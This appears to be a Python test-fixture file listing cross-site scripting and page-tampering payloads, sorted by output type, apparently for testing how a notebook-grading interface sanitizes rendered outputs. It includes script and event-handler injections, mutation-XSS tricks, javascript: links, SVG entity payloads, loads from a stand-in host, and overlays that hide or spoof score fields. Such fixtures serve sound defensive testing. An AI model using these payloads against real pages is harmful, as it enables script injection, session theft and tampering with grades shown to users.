"""Ways in which an output or a text could act on the page that shows it.

Each calls `alert` where it runs, or asks the host `ELSEWHERE` for something: both are seen by
whoever looks at the page in a browser. Texts are by the type of an output.
"""

from __future__ import annotations

import base64

ELSEWHERE = "http://elsewhere.invalid"


def _held(kind: str, text: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


SCRIPT = "<script>alert(1)</script>"
SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'

HTML = {
    "script": SCRIPT,
    "script-in-capitals": "<ScRiPt\n>alert(1)</sCrIpT >",
    "script-from-elsewhere": f"<script src='{ELSEWHERE}/a.js'></script>",
    "script-within-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-as-module": f"<script type=module>import '{ELSEWHERE}/a.js'; alert(1)</script>",
    "script-after-a-null": "<\0script>alert(1)</script><scr\0ipt>alert(1)</scr\0ipt>",
    "picture-that-fails": "<img src=x onerror=alert(1)>",
    "picture-that-loads": f"<img src='{_held('image/gif', 'GIF89a')}' onload=alert(1) onerror=alert(1)>",
    "handler-after-a-slash": "<img/src=x/onerror=alert(1)>",
    "handler-in-a-quote": "<img alt='\"><img src=x onerror=alert(1)>' title='`onerror=alert(1)'>",
    "handler-that-starts": "<body onload=alert(1)><details open ontoggle=alert(1)>x</details>",
    "handler-of-a-film": "<video autoplay onloadstart=alert(1)><source src=x onerror=alert(1)></video>",
    "handler-of-a-sound": "<audio src=x onerror=alert(1)></audio>",
    "handler-by-focus": "<a href=#x id=x tabindex=1 autofocus onfocus=alert(1)>x</a>",
    "handler-by-animation": "<style>@keyframes k{}</style><b style='animation:k' onanimationstart=alert(1)>x</b>",
    "frame": "<iframe src='javascript:parent.alert(1)'></iframe>",
    "frame-with-a-page": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "frame-from-elsewhere": f"<iframe src='{ELSEWHERE}/f'></iframe><frameset><frame src='{ELSEWHERE}/g'>",
    "object": f"<object data='{_held('text/html', SCRIPT)}'></object><object data='{ELSEWHERE}/o'></object>",
    "embedded": f"<embed src='{_held('image/svg+xml', '<svg onload=alert(1)>')}'><embed src={ELSEWHERE}/e>",
    "link-that-runs": "<a href='javascript:alert(1)' id=go>x</a>",
    "link-in-disguise": "<a href='&#106;ava&#x09;script&colon;alert(1)'>x</a><a href=' \x01javascript:alert(1)'>y</a>",
    "link-to-data": f"<a href='{_held('text/html', SCRIPT)}'>x</a>",
    "link-on-the-server": "<a href='/formgrader/?path=/tmp'>x</a><img src='/formgrader/?path=/tmp'><img src='../../logout'>",
    "form": f"<form action='{ELSEWHERE}/form'><input name=a autofocus onfocus=alert(1)><button formaction='javascript:alert(1)'>x</button></form>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/r'>",
    "base": f"<base href='{ELSEWHERE}/'><img src=a.png>",
    "style-from-elsewhere": f"<link rel=stylesheet href='{ELSEWHERE}/s.css'><style>@import '{ELSEWHERE}/i.css';</style>",
    "style-that-loads": f"<style>body{{background:url({ELSEWHERE}/b)}} div{{background:u\\72l({ELSEWHERE}/c)}}</style>",
    "style-in-place-that-loads": f"<b style='background:url({ELSEWHERE}/b)'>x</b><b style='list-style:image-set(\"{ELSEWHERE}/l\" 1x)'>",
    "style-that-ends": "<style>a{color:red}</style/><script>alert(1)</script></style><img src=x onerror=alert(1)>",
    "style-of-the-page": "<style>body,.score,.nbgrader_cell{display:none}</style>",
    "cover": "<div id=cover style='position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;z-index:9;background:#fff'>x</div>",
    "cover-by-a-class": "<div class='modal in navbar-fixed-top' style='margin:-900px;transform:scale(90)'>x</div>",
    "a-field-of-the-page": "<div class='score btn mark-graded' id='why-comment' data-toggle=tooltip name=submission_id>x</div>",
    "picture-from-elsewhere": f"<img src='{ELSEWHERE}/p'><img srcset='{ELSEWHERE}/q 1x'><img src=//elsewhere.invalid/r>",
    "table-from-elsewhere": f"<table background='{ELSEWHERE}/t'><tr><td background='{ELSEWHERE}/u'>x</table>",
    "film-from-elsewhere": f"<video poster='{ELSEWHERE}/v' src='{ELSEWHERE}/w'></video><audio src={ELSEWHERE}/x autoplay>",
    "drawing": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "drawing-with-a-page": f"<svg><foreignObject><iframe src='{ELSEWHERE}/y'></iframe></foreignObject></svg>",
    "drawing-that-changes": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "drawing-that-uses": f"<svg><use href='{ELSEWHERE}/z.svg#a'/><image href='{ELSEWHERE}/i'/></svg>",
    "mutation-by-math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "mutation-by-svg": "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "mutation-by-noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "mutation-by-a-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "raw-text": "<textarea><img title='</textarea><img src=x onerror=alert(1)>'><xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "comment-that-ends-early": "<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>",
    "comment-of-a-condition": "<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
    "template": "<template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "portal": f"<portal src='{ELSEWHERE}/p'></portal><isindex type=image src=x onerror=alert(1)><marquee onstart=alert(1)>",
    "never-closed": "<img src=x onerror=alert(1) <b>x",
}
"""As an output of type text/html, by name."""

DRAWINGS = {
    "svg-that-loads": f"<svg {SVG} onload='alert(1)'><script>alert(1)</script></svg>",
    "svg-with-a-page": f"<svg {SVG}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='alert(1)'/></body></foreignObject></svg>",
    "svg-with-a-link": f"<svg {SVG}><a xlink:href='javascript:alert(1)'><text y='20'>x</text></a></svg>",
    "svg-that-changes": f"<svg {SVG}><set attributeName='onmouseover' to='alert(1)'/><handler>alert(1)</handler></svg>",
    "svg-from-elsewhere": f"<svg {SVG}><image xlink:href='{ELSEWHERE}/i'/><style>@import '{ELSEWHERE}/s';rect{{fill:url({ELSEWHERE}/f#a)}}</style></svg>",
    "svg-with-an-entity": f"<!DOCTYPE svg [<!ENTITY a '<script>alert(1)</script>'>]><svg {SVG}>&a;</svg>",
    "svg-in-a-namespace": f"<svg {SVG} xmlns:h='http://www.w3.org/1999/xhtml'><h:script>alert(1)</h:script></svg>",
    "svg-that-is-html": SCRIPT + "<svg/>",
}
"""As an output of type image/svg+xml."""

TEXTS = {
    "link": "[x](javascript:alert(1)) <javascript:alert(1)> [y]( javascript&colon;alert(1) )",
    "link-in-a-list": "[x][a]\n\n[a]: javascript:alert(1)",
    "title-that-ends": "![x](a.png 'x\" onerror=\"alert(1)') [x](#a '\"><img src=x onerror=alert(1)>')",
    "picture": f"![x]({ELSEWHERE}/m) ![y](javascript:alert(1)) ![z](/formgrader/?path=/tmp)",
    "block": "<div>\n\n**x** <img src=x onerror=alert(1)>\n\n</div>\n\n<script>\nalert(1)\n</script>",
    "code-with-a-language": '```"><img src=x onerror=alert(1)>\nx\n```\n\n```mermaid\n</pre><img src=x onerror=alert(1)>\n```',
    "formula": r"$\href{javascript:alert(1)}{x}$ $\text{<img src=x onerror=alert(1)>}$ $$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$$",
    "formula-of-a-page": "$<img src=x onerror=alert(1)>$ \\begin{a}<script>alert(1)</script>\\end{a} $\\require{html}\\style{position:fixed}{x}$",
    "heading": '# <img src=x onerror=alert(1)> x\n\n## " onmouseover=alert(1) x',
    "table": "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | `</code><script>alert(1)</script>` |",
    "pieces": "\ue0000\ue001 \ue00099\ue001 $x$ \ue000-1\ue001",
}
"""As a written answer, and as an output of type text/markdown."""

OTHERS = {
    "application/javascript": "alert(1)",
    "text/javascript": "alert(1)",
    "application/vnd.jupyter.widget-view+json": '{"model_id": "x", "version_major": 2}',
    "application/vnd.bokehjs_exec.v0+json": "{}",
    "application/vnd.plotly.v1+json": "{}",
    "application/pdf": "JVBERi0=",
    "application/xhtml+xml": f"<html xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</html>",
    "image/png": '"><script>alert(1)</script>',
    "image/jpeg": "x' onerror='alert(1)",
    "text/latex": r"$\href{javascript:alert(1)}{x}$ <script>alert(1)</script>",
    "text/vnd.mermaid": "graph TD; </pre><script>alert(1)</script>",
}
"""By the type of an output."""

OUTPUTS = (
    *(("text/html", text) for text in HTML.values()),
    *(("image/svg+xml", text) for text in DRAWINGS.values()),
    *(("text/markdown", text) for text in (*TEXTS.values(), *HTML.values())),
    *OTHERS.items(),
)
"""All of them, each as the type and the text of an output."""
